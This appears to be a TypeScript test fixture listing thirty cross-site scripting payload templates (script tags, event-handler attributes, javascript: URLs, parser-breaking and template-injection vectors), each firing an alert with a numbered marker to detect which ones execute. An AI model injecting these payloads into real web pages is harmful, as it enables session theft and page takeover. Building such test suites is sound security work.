/** Thirty ways in; each says its number, so that a page that shows it is told from one that does not. */
const MAKERS: readonly ((call: string) => string)[] = [
  call => `<script>${call}</script>`,
  call => `<img src=x onerror=${call}>`,
  call => `<svg onload=${call}>`,
  call => `<svg><script>${call}</script></svg>`,
  call => `"><script>${call}</script>`,
  call => `'><img src=x onerror=${call}>`,
  call => `</script><script>${call}</script>`,
  call => `</title></style></textarea><script>${call}</script>`,
  call => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  call => `<iframe src="javascript:parent.${call}"></iframe>`,
  call => `<object data="javascript:${call}"></object>`,
  call => `<embed src="javascript:${call}">`,
  call => `<details open ontoggle=${call}>`,
  call => `<video><source onerror=${call}></video>`,
  call => `<body onload=${call}>`,
  call => `<input autofocus onfocus=${call}>`,
  call => `<a href="javascript:${call}">a</a>`,
  call => `<math><mi xlink:href="javascript:${call}">a</mi></math>`,
  call => `<form action="javascript:${call}"><button>a</button></form>`,
  call => `<base href="javascript:${call}//">`,
  call => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  call => `<style>@import "javascript:${call}"</style>`,
  call => `<template><script>${call}</script></template>`,
  call => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  call => `<!--><img src=x onerror=${call}>-->`,
  call => `[a](javascript:${call})`,
  call => `![a](x"onerror="${call})`,
  call => `javascript:${call}`,
  call => `{{constructor.constructor('${call}')()}}`,
  call => `\${${call}}<img/src=x/onerror=${call}>`,
];

/** What shows of the payload of a number. */
export const markOf = (number: number) => `xss-${number}.`;

export const PAYLOADS: readonly string[] = MAKERS.map((make, number) =>
  make(`alert(/${markOf(number)}/)`),
);
